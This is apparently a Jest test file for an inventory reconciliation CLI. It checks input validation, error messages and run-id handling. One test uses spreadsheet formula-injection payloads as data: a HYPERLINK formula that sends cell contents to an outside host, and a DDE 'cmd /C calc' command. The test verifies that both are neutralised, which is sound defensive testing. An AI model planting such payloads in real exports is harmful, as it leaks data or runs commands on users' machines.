import { execFile } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { Scenario, csv, d365Row, WMS_HEADER, wmsRow } from '../helpers/scenario';

/** Issue 12 findings about the `ibal` command, run as a user runs it (built by `npm test` before jest starts). */
const bin = join(__dirname, '..', '..', 'node_modules', '.bin', 'ibal');
interface Outcome { code: number; stdout: string; stderr: string }
async function ibal(args: string[]): Promise<Outcome> {
  return promisify(execFile)(bin, args, { maxBuffer: 64 * 1024 * 1024 }).then(
    ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
    (error: { code: number; stdout: string; stderr: string }) => ({ code: error.code, stdout: error.stdout, stderr: error.stderr }));
}
const reconcileIn = (s: Scenario, ...more: string[]) => ibal(['reconcile', '--config', s.writeConfig(), '--out', join(s.dir, 'out'), '--quiet', ...more]);
const rejectsOf = (s: Scenario): Array<Record<string, string>> => parse(readFileSync(join(s.dir, 'out', 'rejects.csv')), { columns: true });

describe('a side with nothing to compare is refused (issue 12.4)', () => {
  it('refuses a header-only WMS file with exit 2, naming the file and the count', async () => {
    const s = new Scenario().costs({ A: 1 }).d365([d365Row('A', '11', 10)]).wms([]);
    const { code, stderr } = await reconcileIn(s);
    expect(code).toBe(2);
    expect(stderr).toContain('nothing to compare: wms.csv: no line can be compared (0 read, 0 rejected) (wms.onHand)');
    expect(existsSync(join(s.dir, 'out', 'discrepancies.csv'))).toBe(false);
  });

  it('refuses a WMS file whose every line is rejected (decimal commas), and still reports each line', async () => {
    const s = new Scenario().costs({ A: 1 }).d365([d365Row('A', '11', 10)]);
    s.file('wms.csv', csv(WMS_HEADER, Array.from({ length: 14 }, (_, i) => wmsRow('A', 'DAL1', `${i},5`)), ';'));
    const { code, stderr } = await reconcileIn(s);
    expect(code).toBe(2);
    expect(stderr).toContain('wms.csv: no line can be compared (14 read, 14 rejected; the reasons are in rejects.csv) (wms.onHand)');
    const rejects = rejectsOf(s);
    expect(rejects).toHaveLength(14);
    expect(rejects[0]!.reason).toBe("quantity '0,5' is not a number (write numbers with a decimal point and no thousands separator)");
  });

  it('warns when more than rejects.warnShare of a file is rejected, and not below it', async () => {
    const s = new Scenario().costs({ A: 1 }).d365([d365Row('A', '11', 10)]);
    s.wms([wmsRow('A', 'DAL1', 4), wmsRow('A', 'DAL1', 3), wmsRow('A', 'DAL1', 3), wmsRow('A', 'NOPE', 1)]);
    s.config.rejects = { warnShare: 0.2 };
    const warned = await reconcileIn(s);
    expect(warned.code).toBe(0);
    expect(warned.stderr).toContain('warning: wms.csv: 1 of 4 lines rejected (25%, more than rejects.warnShare 20%): see rejects.csv (wms.onHand)');
    s.config.rejects = { warnShare: 0.25 };
    expect((await reconcileIn(s)).stderr).not.toContain('lines rejected');
  });
});

describe('spreadsheet formula injection (issue 12.8)', () => {
  const formula = '=HYPERLINK("http://x.io?"&A1,"Go")';
  const command = "-2+3+cmd|' /C calc'!A0";

  it('neutralises formula-leading text cells in discrepancies.csv and rejects.csv, keeping numbers and the raw text recoverable', async () => {
    const s = new Scenario().costs({ [formula]: 1, "'quoted": 1 });
    s.d365([d365Row(formula, '11', 10), d365Row("'quoted", '11', 3)]);
    s.wms([wmsRow(formula, 'DAL1', 4), wmsRow("'quoted", 'DAL1', 1), wmsRow(command, 'DAL1', 'x'), ['@SUM(1+1)', 'DAL1', 'B1', '', 'AVAIL', '1', 'drum']]);
    const { code } = await reconcileIn(s);
    expect(code).toBe(0);
    const discrepancies: string[][] = parse(readFileSync(join(s.dir, 'out', 'discrepancies.csv')));
    const rows = discrepancies.slice(1).map((r) => [r[1], r[14], r[17], r[18]]);
    // Items: apostrophe in front; negative quantities stay numbers.
    expect(rows).toEqual([[`'${formula}`, '10', '-6', '-6'], ["''quoted", '3', '-2', '-2']]);
    const rejects = rejectsOf(s);
    expect(rejects.map((r) => r.raw)).toEqual([`'${command},DAL1,B1,,AVAIL,x,ea`, "'@SUM(1+1),DAL1,B1,,AVAIL,1,drum"]);
    // What the README says: the raw text is the cell without its first apostrophe.
    const raw = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
    expect(raw(rows[0]![0]!)).toBe(formula);
    expect(raw(rows[1]![0]!)).toBe("'quoted");
    expect(raw(rejects[0]!.raw!)).toBe(`${command},DAL1,B1,,AVAIL,x,ea`);
  });
});

describe('re-running a run id from other snapshot files (issue 12.10, local history)', () => {
  it('is refused with exit 2 unless --replace is given', async () => {
    const s = new Scenario().costs({ A: 1 }).d365([d365Row('A', '11', 10)]).wms([wmsRow('A', 'DAL1', 4)]);
    expect((await reconcileIn(s, '--run-id', 'week-47')).code).toBe(0);
    expect((await reconcileIn(s, '--run-id', 'week-47')).code).toBe(0); // the same files: an update
    s.wms([wmsRow('A', 'DAL1', 9)]);
    const refused = await reconcileIn(s, '--run-id', 'week-47');
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('run week-47 was already reconciled from other snapshot files');
    expect(refused.stderr).toContain('--replace');
    const replaced = await reconcileIn(s, '--run-id', 'week-47', '--replace');
    expect(replaced.code).toBe(0);
    const run = JSON.parse(readFileSync(join(s.dir, 'out', 'run.json'), 'utf8')) as { warnings: string[]; trend: unknown[] };
    expect(run.warnings).toContainEqual(expect.stringContaining('--replace: run week-47 of other snapshot files'));
    expect(run.trend).toHaveLength(1);
  });
});

describe('smaller edges of the command (issue 12.11)', () => {
  it('answers ibal reconcile --help with the usage and exit 0', async () => {
    const { code, stdout } = await ibal(['reconcile', '--help']);
    expect(code).toBe(0);
    expect(stdout).toContain('Usage: ibal reconcile');
    expect(stdout).toContain('--replace');
  });

  it('gives the reason when a line is too long to read, without echoing it', async () => {
    const s = new Scenario().costs({ A: 1 }).d365([d365Row('A', '11', 10)]);
    s.file('wms.csv', `${WMS_HEADER.join(',')}\nA,DAL1,${'x'.repeat(3_000_000)},,AVAIL,1,ea\n`);
    const { code, stderr } = await reconcileIn(s);
    expect(code).toBe(2);
    expect(stderr).toMatch(/wms\.csv: cannot be read as CSV \(Maximum line size of \d+ bytes exceeded\. Actual Size:3000020 bytes\.\) \(wms\.onHand\)/);
    expect(stderr).not.toContain('xxxxxxxxxx');
    expect(stderr.length).toBeLessThan(1000);
  });

  it('says what a non-CSV file looks like, never what it holds', async () => {
    const secret = 'password: hunter2';
    const cases: Array<[string, string | Buffer, RegExp]> = [
      ['notes.txt', `${secret}\nsecond line\n`, /notes\.txt: required column 'sku' is missing \(wms\.onHand\.columns\.item\); the file has no header row/],
      ['export.json', `{"${secret}": [1, 2, 3]}`, /export\.json: it looks like JSON, not a CSV file; check wms\.onHand\.path/],
      ['report.pdf', Buffer.concat([Buffer.from(`%PDF-1.4\n%${secret}\n`), Buffer.from([0, 1, 2])]), /report\.pdf: it is a PDF document, not a CSV file/],
    ];
    for (const [name, content, message] of cases) {
      const s = new Scenario().costs({ A: 1 }).d365([d365Row('A', '11', 10)]).file(name, content);
      (s.config.wms as Record<string, Record<string, unknown>>).onHand!.path = name;
      const { code, stderr } = await reconcileIn(s);
      expect(code).toBe(2);
      expect(stderr).toMatch(message);
      expect(stderr).not.toContain('hunter2');
    }
  });
});
